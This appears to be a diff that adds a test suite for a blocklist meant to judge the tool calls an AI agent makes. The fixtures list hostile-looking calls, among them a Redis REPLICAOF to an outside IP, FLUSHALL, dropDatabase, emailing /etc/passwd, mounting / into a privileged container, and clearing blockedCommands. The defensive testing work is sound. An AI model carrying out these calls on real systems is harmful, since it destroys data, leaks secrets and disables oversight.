@@ -1,0 +1,119 @@
+import { describe, expect, test } from "bun:test";
+import type { GovernedCall } from "#shared/governed-call.ts";
+import type { JsonObject } from "#shared/json.ts";
+import { blocklistCategories } from "../categories.ts";
+import { judgeCall, type Reactions } from "../judge-call.ts";
+
+const reactions = Object.fromEntries(
+  Object.entries(blocklistCategories).map(([name, category]) => [name, category.reaction]),
+) as Reactions;
+
+/** `category`, `category?` where it asks, or `-`. */
+function verdict(tool: string, input: JsonObject): string {
+  const [server = "", name = ""] = tool.split("/");
+  const call: GovernedCall = {
+    surface: "mcp",
+    method: "tools/call",
+    target: `mcp://${tool}`,
+    entity: { kind: "tool", name, server },
+    input,
+    argumentKinds: {},
+    declaresPermissions: false,
+    cwd: "/home/dev/project",
+    blocklist: {},
+  };
+  const match = judgeCall(call, reactions);
+  if (match === null) return "-";
+  return match.reaction === "deny" ? match.category : `${match.category}?`;
+}
+
+type Row = readonly [tool: string, input: JsonObject, expected: string];
+
+const graph = "https://api.example.com/graphql";
+const deletes = 'mutation { projectDelete(id: "p") { success } }';
+const creates = 'mutation { issueCreate(input: {title: "projectDelete"}) { success } }';
+
+const rights: readonly Row[] = [
+  ["forge/update_repository", { repo: "a/b", private: false }, "permission-widening"],
+  ["forge/update_repository", { repo: "a/b", private: true }, "-"],
+  ["forge/create_repository", { name: "b", private: false }, "-"],
+  ["forge/update_project", { visibility: "public" }, "permission-widening"],
+  ["drive/create_permission", { permission: { type: "anyone" } }, "permission-widening"],
+  ["drive/create_permission", { permission: { type: "user", role: "reader" } }, "-"],
+  ["forge/add_org_member", { username: "eve", role: "admin" }, "permission-widening"],
+  ["forge/add_org_member", { username: "eve", role: "member" }, "-"],
+  ["forge/add_project_member", { user_id: 9, access_level: 50 }, "permission-widening"],
+  ["chat/create_message", { role: "assistant", text: "admin" }, "-"],
+  ["forge/update_settings", { enforce_admins: false }, "disable-security?"],
+  ["docker/create_container", { image: "a", privileged: true }, "permission-widening"],
+  ["docker/run_container", { image: "a", volumes: ["/:/host"] }, "permission-widening"],
+  ["docker/run_container", { image: "a", volumes: ["./data:/data"] }, "-"],
+  ["cloud/authorize_ingress", { cidr: "0.0.0.0/0", port: 22 }, "permission-widening"],
+];
+
+const acts: readonly Row[] = [
+  ["any/call_tool", { tool: "delete_repository", arguments: {} }, "cloud-destruction"],
+  ["any/batch", { calls: [{ name: "drop_table", arguments: {} }] }, "drop-schema"],
+  ["any/batch", { people: [{ name: "drop_table" }] }, "-"],
+  ["kube/node_management", { operation: "drain", nodeName: "n" }, "cloud-destruction"],
+  ["tracker/label_write", { method: "delete", name: "bug" }, "-"],
+  ["tracker/issue_write", { method: "update", state: "closed" }, "-"],
+  ["forge/update_ref", { ref: "heads/main", force: true }, "force-push"],
+  ["forge/delete_branch", { branch: "main" }, "force-push"],
+  ["kube/scale", { name: "api", replicas: 0 }, "cloud-destruction?"],
+  ["kube/scale", { name: "api", replicas: 3 }, "-"],
+  ["desk/kill_process", { pid: 1 }, "process-control"],
+  ["desk/set_config_value", { key: "blockedCommands", value: [] }, "governance-tampering"],
+  ["desk/set_config_value", { key: "theme", value: "dark" }, "-"],
+  ["mail/create_filter", { action: { forward: "x@example.net" } }, "exfiltration"],
+  ["graph/run", { query: deletes }, "cloud-destruction"],
+  ["graph/run", { query: creates }, "-"],
+  [
+    "http/fetch",
+    { url: graph, options: { method: "POST", body: JSON.stringify({ query: deletes }) } },
+    "cloud-destruction",
+  ],
+];
+
+const stores: readonly Row[] = [
+  ["mongodb/delete-many", { collection: "a", filter: {} }, "delete-data"],
+  ["mongodb/delete-many", { collection: "a", filter: { _id: "1" } }, "-"],
+  ["mongodb/update-many", { collection: "a", filter: {}, update: {} }, "delete-data"],
+  ["mongodb/find", { collection: "a", filter: {} }, "-"],
+  ["mongodb/find", { collection: "a", filter: { $where: "1" } }, "opaque-command?"],
+  ["mongodb/aggregate", { pipeline: [{ $match: {} }, { $out: "b" }] }, "delete-data"],
+  ["mongodb/aggregate", { pipeline: [{ $match: {} }, { $count: "n" }] }, "-"],
+  ["mongo/run_command", { command: { dropDatabase: 1 } }, "drop-schema"],
+  ["mongo/run_command", { command: { ping: 1 } }, "-"],
+  ["redis/run", { command: "CONFIG", args: ["SET", "dir", "/root"] }, "disable-security"],
+  ["redis/run", { command: "REPLICAOF 203.0.113.7 6379" }, "exfiltration"],
+  ["redis/eval", { script: "return redis.call('FLUSHALL')" }, "delete-data"],
+  ["redis/lpush", { name: "q", value: "flushall" }, "-"],
+  ["redis/delete", { key: "session:42" }, "-"],
+];
+
+const files: readonly Row[] = [
+  ["files/write_file", { path: "~/.bashrc", content: "x" }, "permission-widening?"],
+  ["files/write_file", { path: "C:\\Windows\\x.dll", content: "x" }, "permission-widening?"],
+  ["files/write_file", { path: "/tmp/out.json", content: "{}" }, "-"],
+  ["files/delete_file", { path: "/home/dev/other/thesis.docx" }, "delete-data?"],
+  ["files/delete_file", { path: "dist/bundle.js" }, "-"],
+  ["files/remove_directory", { path: "C:\\Windows\\System32" }, "recursive-delete"],
+  ["mail/send_email", { attachments: ["/etc/passwd"] }, "exfiltration?"],
+  ["mail/send_email", { attachments: ["report.pdf"] }, "-"],
+  ["browser/navigate", { url: "file:///etc/passwd" }, "exfiltration?"],
+];
+
+describe("M04 what a call's arguments say", () => {
+  test.each<Row>([...rights, ...acts, ...stores, ...files])(
+    "%s %j: %s",
+    (tool, input, expected) => {
+      expect(verdict(tool, input)).toBe(expected);
+    },
+  );
+
+  test("passes a delete that is only tried", () => {
+    expect(verdict("kube/delete_namespace", { name: "a", dryRun: true })).toBe("-");
+    expect(verdict("kube/delete_namespace", { name: "a" })).toBe("cloud-destruction");
+  });
+});
